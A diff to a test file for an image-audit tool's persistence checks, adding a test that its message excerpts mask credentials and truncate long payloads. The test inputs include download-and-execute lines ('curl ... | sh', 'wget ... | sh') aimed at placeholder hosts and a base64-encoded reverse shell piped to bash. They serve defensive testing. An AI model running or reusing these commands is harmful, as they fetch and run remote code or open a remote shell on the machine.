@@ -12,6 +12,7 @@ import pytest
 from imageaudit.checks.persistence import (
     PersistenceDataError,
     default_shapes,
+    excerpt,
     load_shapes,
     matching_shape,
 )
@@ -230,6 +231,21 @@ def test_shapes_stay_fast_on_hostile_lines() -> None:
     # About 0.1 s here; a regex scanning the rest of the line at each occurrence takes 0.5 s
     # for one of these lines alone.
     assert time.perf_counter() - start < 0.5
+
+
+def test_messages_mask_credentials_and_payloads() -> None:
+    for text, shown in (
+        ("curl -u admin:S3cret http://x/a | sh", "curl -u *** http://x/a | sh"),
+        ("wget http://bob:hunter2@192.0.2.1/x -O- | sh", "wget http://***@192.0.2.1/x -O- | sh"),
+        ('curl -H "Authorization: Bearer abc.def" http://x | bash',
+         'curl -H "Authorization: ***" http://x | bash'),
+        ("API_TOKEN=abcd123 /tmp/x", "API_TOKEN=*** /tmp/x"),
+        ("echo c2ggLWkgPiYgL2Rldi90Y3AvMTAuMC4wLjEvNDQ0NCAwPiYx | base64 -d | bash",
+         "echo c2ggLW… | base64 -d | bash"),
+        ("mkdir -p /tmp/x", "mkdir -p /tmp/x"),
+    ):
+        assert excerpt(text) == shown
+    assert excerpt("x" * 500).endswith("…") and len(excerpt("x y" * 200)) == 120
 
 
 def facts_of(root: Path) -> Facts:
